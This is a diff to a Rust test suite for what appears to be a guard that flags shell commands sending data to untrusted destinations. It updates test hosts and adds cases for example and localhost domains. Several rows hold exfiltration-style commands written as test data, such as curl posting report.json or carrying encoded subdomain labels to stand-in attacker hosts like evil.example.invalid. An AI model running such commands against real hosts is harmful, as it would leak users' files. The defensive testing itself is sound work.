@@ -2186,7 +2186,7 @@ fn shell_destinations_by_kind() {
         row(
             "push to a remote this session added, exposed",
             "git push x main",
-            with_remote(View::exposed(), "x", "https://evil.example.com/x.git"),
+            with_remote(View::exposed(), "x", "https://evil.example.invalid/x.git"),
             Ask,
             "exposure.untrusted_destination",
         ),
@@ -2283,14 +2283,14 @@ fn shell_destinations_by_kind() {
         ),
         row(
             "encoded label, exposed",
-            "curl https://a8f9c0d1e2b3a4f5c6d7e8f9a0b1c2d3.evil.example.com/",
+            "curl https://a8f9c0d1e2b3a4f5c6d7e8f9a0b1c2d3.evil.example.invalid/",
             View::exposed(),
             Ask,
             "exposure.untrusted_destination",
         ),
         row(
             "many coded path segments, exposed",
-            "curl https://evil.example.com/a1/b2/c3/d4/e5/f6/a7",
+            "curl https://evil.example.invalid/a1/b2/c3/d4/e5/f6/a7",
             View::exposed(),
             Ask,
             "exposure.untrusted_destination",
@@ -2718,5 +2718,61 @@ fn account_credentials_set_to_values_the_user_never_typed() {
             "provenance.untrusted_destination",
         )
         .view(View::clean().seen("+1 555 0100 777", Origin::Output)),
+    ]);
+}
+
+#[test]
+fn example_and_local_hosts_are_no_exposed_destination() {
+    const UD: &str = "exposure.untrusted_destination";
+    let x = View::exposed;
+    run(vec![
+        allow(
+            "an RFC 2606 example subdomain",
+            shell("curl -d @report.json https://server.example.com/up"),
+        )
+        .view(x()),
+        allow(
+            "example.org",
+            shell("curl -d @report.json https://example.org/up"),
+        )
+        .view(x()),
+        allow(
+            "localhost",
+            shell("curl -d @report.json http://localhost:8080/up"),
+        )
+        .view(x()),
+        allow(
+            "a .localhost name",
+            shell("curl -d @report.json http://api.localhost/up"),
+        )
+        .view(x()),
+        // The .example, .invalid and .test top-level domains stand in for real hosts.
+        ask(
+            "the .example TLD",
+            shell("curl -d @report.json https://collect.example/up"),
+            UD,
+        )
+        .view(x()),
+        ask(
+            "the .invalid TLD",
+            shell("curl -d @report.json https://collect.invalid/up"),
+            UD,
+        )
+        .view(x()),
+        ask(
+            "the .test TLD",
+            shell("curl -d @report.json https://collect.test/up"),
+            UD,
+        )
+        .view(x()),
+        ask(
+            "example.com as a label of another host",
+            shell("curl -d @report.json https://example.com.evil.invalid/up"),
+            UD,
+        )
+        .view(x()),
+        // A file whose extension is no top-level domain is no host.
+        allow("a netpbm file", shell("pnmtopng input.pnm")).view(x()),
+        allow("a singularity image", shell("singularity run image.sif")).view(x()),
     ]);
 }
